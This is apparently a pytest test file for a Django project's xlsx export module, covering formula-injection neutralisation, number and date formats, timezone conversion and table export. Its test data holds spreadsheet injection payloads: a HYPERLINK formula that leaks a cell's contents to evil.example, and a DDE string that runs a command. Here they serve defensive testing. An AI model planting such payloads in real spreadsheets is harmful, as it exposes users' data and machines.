"""The one xlsx writer (core/xlsx.py): exports are data (issue 15.3) and text never becomes a
formula (issue 13.3, the OWASP rule)."""

import datetime
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import django_tables2 as tables
import pytest
from django.utils.safestring import mark_safe
from openpyxl import load_workbook

from core.xlsx import (
    DATE_FORMAT,
    DATETIME_FORMAT,
    FLOAT_FORMAT,
    INT_FORMAT,
    cell_value,
    neutralise,
    table_rows,
    unneutralise,
    workbook_bytes,
)


def sheet_of(headers, rows):
    return load_workbook(io.BytesIO(workbook_bytes({"Лист": (headers, rows)}))).active


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Иванова")', '\'=HYPERLINK("http://evil.example/?"&A1,"Иванова")'),
        ("+7 (343) 123-45-67", "'+7 (343) 123-45-67"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Иванова", "Иванова"),
        ("СШ № 2 = лидер", "СШ № 2 = лидер"),
    ],
)
def test_text_is_neutralised(text, written):
    assert neutralise(text) == written
    assert unneutralise(neutralise(text)) == text
    cell = sheet_of(["Имя"], [[text]])["A2"]
    assert cell.data_type == "s" and cell.value == written


def test_no_cell_is_a_formula():
    ws = sheet_of(["=A1", "b"], [["=1+1", "=SUM(A1:A2)"]])
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws["A1"].value == "'=A1"


def test_types_and_number_formats(settings):
    settings.TIME_ZONE = "Europe/Moscow"
    aware = datetime.datetime(2026, 12, 5, 4, 18, 42, 240881, tzinfo=datetime.UTC)
    ws = sheet_of(
        ["bool", "int", "float", "decimal", "date", "datetime", "none"],
        [[True, 7, -1.5712, Decimal("25.3"), datetime.date(2026, 12, 5), aware, None], [False, 0, 0.0, None, None]],
    )
    a, b, c, d, e, f, g = ws[2]
    assert (a.value, ws["A3"].value) == ("Да", "Нет")
    assert (b.value, b.number_format) == (7, INT_FORMAT)
    assert (c.value, c.number_format) == (-1.5712, FLOAT_FORMAT)
    assert (d.value, d.number_format) == (25.3, FLOAT_FORMAT)
    assert (e.value, e.number_format) == (datetime.datetime(2026, 12, 5), DATE_FORMAT)
    # 04:18 UTC is 07:18 in Moscow: the portal's time, never a UTC text.
    assert (f.value, f.number_format) == (datetime.datetime(2026, 12, 5, 7, 18, 42), DATETIME_FORMAT)
    assert g.value is None
    assert ws["B3"].value == 0 and ws["C3"].value == 0


def test_local_time_follows_the_portals_zone(settings):
    settings.TIME_ZONE = "Asia/Krasnoyarsk"
    moment = datetime.datetime(2026, 12, 5, 4, 0, tzinfo=ZoneInfo("UTC"))
    assert cell_value(moment) == (datetime.datetime(2026, 12, 5, 11, 0), DATETIME_FORMAT)


@pytest.mark.parametrize("value", [{"a": 1}, [1, 2], (1, 2), {1}])
def test_one_value_per_cell(value):
    with pytest.raises(TypeError):
        cell_value(value)


def test_html_becomes_its_text():
    assert cell_value(mark_safe('<span class="badge">высокий</span>')) == ("высокий", None)


class Row:
    def __init__(self, **kw):
        self.__dict__.update(kw)


class Sample(tables.Table):
    active = tables.BooleanColumn()
    share = tables.Column()
    when = tables.DateTimeColumn(format="d.m.Y H:i")
    day = tables.DateColumn(format="d.m.Y")
    label = tables.Column()
    shown = tables.Column()
    hidden = tables.Column(visible=False)
    skipped = tables.Column(exclude_from_export=True)

    def render_shown(self, value):
        return f"{value:.2f}".replace(".", ",")

    def value_shown(self, value):
        return value


def test_a_table_exports_its_data():
    moment = datetime.datetime(2026, 12, 5, 4, 18, tzinfo=datetime.UTC)
    row = Row(
        active=True,
        share=-1.57,
        when=moment,
        day=datetime.date(2026, 9, 1),
        label="=1+1",
        shown=2.5,
        hidden=3,
        skipped="x",
    )
    headers, rows = table_rows(Sample([row]))
    assert headers == ["Active", "Share", "When", "Day", "Label", "Shown", "Hidden"]
    assert rows == [[True, -1.57, moment, datetime.date(2026, 9, 1), "=1+1", 2.5, 3]]
    ws = sheet_of(headers, rows)
    assert [c.value for c in ws[2]][:2] == ["Да", -1.57]
    assert ws["E2"].value == "'=1+1"
